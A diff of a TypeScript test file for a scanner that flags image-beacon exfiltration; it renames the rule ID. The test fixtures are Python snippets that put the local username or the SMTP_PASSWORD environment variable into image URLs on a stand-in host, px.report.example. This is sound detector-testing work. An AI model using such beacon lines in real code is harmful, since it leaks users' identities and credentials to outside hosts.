@@ -8,16 +8,16 @@ const python = (script: string, body = "") =>
     "scripts/a.py": `import getpass, os\n${script}\n`,
   });
 
-describe("R05: image beacons", () => {
+describe("exfiltration: image beacons", () => {
   it("asks about a picture whose address carries something of this machine", async () => {
     expect(
       await python(
         "page = f\"<img src='https://px.report.example/o.gif?u={getpass.getuser()}'>\"\nopen('r.html', 'w').write(page)",
       ),
-    ).toEqual(["R05.image_beacon suspicious scripts/a.py"]);
+    ).toEqual(["exfiltration.image-beacon suspicious scripts/a.py"]);
     expect(
       await python("k = os.environ['SMTP_PASSWORD']\nprint('![x](https://px.report.example/%s.png)' % k)"),
-    ).toEqual(["R05.image_beacon suspicious scripts/a.py"]);
+    ).toEqual(["exfiltration.image-beacon suspicious scripts/a.py"]);
   });
 
   it("lets pictures be whose address says nothing private, or whose host is known or told", async () => {
